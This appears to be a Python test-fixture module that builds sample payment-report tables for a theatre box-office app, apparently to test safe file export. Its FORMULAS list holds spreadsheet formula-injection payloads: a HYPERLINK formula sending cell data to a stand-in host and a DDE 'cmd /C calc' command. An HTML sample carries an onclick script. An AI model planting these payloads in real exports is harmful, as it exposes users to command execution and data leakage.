"""Reports to write to files, without a database."""

from datetime import date

from app.domain.report_parts import (
    Column,
    Entry,
    Kind,
    Proof,
    Report,
    ReportName,
    Section,
    Table,
    Wanted,
    table_of,
)

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)
SCRIPTS = (
    "Zoë Müller-Lüdenscheidt",
    "Łukasz Dvořák",
    "Ελένη Παπαδοπούλου",
    "Дмитрий Петров",
    "שרה כהן",
    "أحمد بن علي",
    "山田太郎",
    "김민준",
    "สมชาย ใจดี",
    "अनिता शर्मा",
    "👩‍🎤 Ziggy",
)
HTML = '<b onclick="alert(1)">&amp;</b>'
LONG = "Ö" * 10_000
# the most a form takes: twelve digits before the point
LIMITS = {"JPY": 10**12 - 1, "EUR": 10**14 - 1, "KWD": 10**15 - 1}


def report(*tables: Table, **changes: object) -> Report:
    values = {
        "name": ReportName.PAYMENTS,
        "title": "Payments",
        "house": "Playhouse",
        "wanted": Wanted(date(2026, 11, 1), date(2026, 11, 30)),
        "facts": (Entry("Event", Kind.TEXT, "The Winter Garden"),),
        "figures": (),
        "tables": tables,
        "proofs": (),
        "notes": (),
        "made_at": "2026-11-24T12:00",
    }
    return Report(**(values | changes))


def names(*texts: str, currency: str = "EUR", amount: int = 4050) -> Table:
    """A row a name, in every kind of column."""
    columns = (
        Column("When", Kind.INSTANT),
        Column("Day", Kind.DAY),
        Column("Customer"),
        Column("Tender", Kind.WORD),
        Column("Tickets", Kind.COUNT),
        Column("Came", Kind.SHARE),
        Column("Amount", Kind.MONEY, currency),
    )
    rows = (("2026-11-24T19:30", "2026-11-24", t, "Cash", 2, 6250, amount) for t in texts)
    return table_of("Payments", columns, rows, currency=currency)


def grouped() -> Table:
    """Two sections with totals of their own."""
    columns = (Column("Performance", Kind.INSTANT), Column("Takings", Kind.MONEY, "EUR"))
    one = (("2026-11-27T20:00", 100), ("2026-11-28T20:00", 250))
    sections = (
        Section("=Evil & <Co>", one, ("Total", 350)),
        Section("Paper Lions", (("2026-11-29T20:00", -50),)),
    )
    return Table("Performances", columns, sections, ("All events", 300), "EUR")


def long_table(rows: int) -> Table:
    """As a year of payments."""
    columns = (
        Column("When", Kind.INSTANT),
        Column("Booking"),
        Column("Customer"),
        Column("Tender", Kind.WORD),
        Column("Reference"),
        Column("Operator"),
        Column("Station"),
        Column("Taken", Kind.MONEY, "EUR"),
    )
    made = (
        (
            f"2026-{n % 12 + 1:02d}-{n % 28 + 1:02d}T{n % 24:02d}:30",
            f"T1-{n:06d}",
            SCRIPTS[n % 4] if n % 3 else "Walk-up",
            "Cash",
            "",
            "Carla Cashier",
            "T1",
            n * 37 % 20_000,
        )
        for n in range(rows)
    )
    return table_of("Payments", columns, made, currency="EUR")


PROOF = Proof("EUR", 300, 0, 300)
